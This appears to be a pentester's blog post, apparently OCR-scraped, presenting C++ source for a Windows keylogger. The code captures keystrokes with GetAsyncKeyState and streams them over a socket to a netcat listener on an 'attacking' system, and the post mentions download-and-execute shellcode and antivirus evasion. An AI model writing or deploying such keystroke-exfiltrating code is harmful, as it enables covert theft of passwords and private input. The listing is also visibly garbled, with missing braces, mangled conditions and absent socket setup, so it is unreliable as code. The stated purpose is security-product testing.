IT security is a matter of trust.

A basic keylogger for Windows

For testing security software and hardware I wrote a very simple keylogger (which is very noisy). Together with the winexec shellcode I wrote earlier it is possible to download and start the keylogger which simulates a very simple malware. My idea is it to have a some tools (when I will have more time to program  ), that help testing all the nice antivirus, sandboxing and so on solutions for my daily pentesting job, from exploitation on. That also includes antivirus evasion tools (based on https://github.com/govolution/avepoc).

How it works
Start the executable on the “target” system. Start nc on the “attacking” system.

2015-07-14 14_22_46-WinXP_1 (Ausgangspunkt für WinXP_1 und WinXP_1-Klon) [wird ausgeführt] - Oracle

From a technical point of view there is nothing spectacular to see here. The function used for getting what keys are pressed is GetAsyncKeyState (see here).

Code for the keylogger/* Tested: Windows XP/7/8
 * Compiler: mingw
 * Compile with: g++ WinKeylog.cpp -lWs2_32
 * Some of the code is from:
 * http://www.online-tutorials.net/system/keylogger-tastatur-abfragen/sourcecodes-t-19-270.html

#include <string.h>
#include <iostream>
#include <winsock2.h>
std::string GetKey(int Key)
    std::string KeyString = "";

    if (Key == 8)
        KeyString = "[delete]";
    if (Key == 13)
        KeyString = "\n";
    if (Key == 32)
        KeyString = " ";
    if (Key == VK_PAUSE)
        KeyString = "[PAUSE]";
    if (Key == VK_CAPITAL)
        KeyString = "[CAPITAL]";
    if (Key == VK_SHIFT)
        KeyString = "[SHIFT]";
    if (Key == VK_TAB)
        KeyString = "[TABULATOR]";
    if (Key == VK_CONTROL)
        KeyString = "[CTRL]";
    if (Key == VK_ESCAPE)
        KeyString = "[ESCAPE]";
    if (Key == VK_END)
        KeyString = "[END]";
    if (Key == VK_HOME)
        KeyString = "[HOME]";
    if (Key == VK_LEFT)
        KeyString = "[LEFT]";
    if (Key == VK_RIGHT)
        KeyString = "[RIGHT]";
    if (Key >=96 && Key  47 && Key  64 && Key < 91)
            if (GetKeyState(VK_CAPITAL))KeyString = Key;
                Key = Key + 32;
                KeyString = Key;

    return KeyString;

int main()
    WSAData version;
    WORD mkword=MAKEWORD(2,2);


    sockaddr_in addr;

    int conn=connect(u_sock,(SOCKADDR*)&addr,sizeof(addr));
    if(conn==SOCKET_ERROR) {

    char vect[512]={0};

    std::string TempString = "";


        for(int i = 8; i < 191; i++)
            if(GetAsyncKeyState(i)&1 ==1)
                TempString = GetKey (i);
                int smsg=send(u_sock, TempString.c_str(), TempString.length(), 0);
    return 1;The code can also be found here.

Published by

Leave a Reply

Fill in your details below or click an icon to log in:

WordPress.com Logo

You are commenting using your WordPress.com account. Log Out /  Change )

Twitter picture

You are commenting using your Twitter account.Log Out /  Change )

Facebook photo

You are commenting using your Facebook account. Log Out /  Change )

Connecting to %s

This site uses Akismet to reduce spam. Learn how your comment data isprocessed.

%d bloggers like this: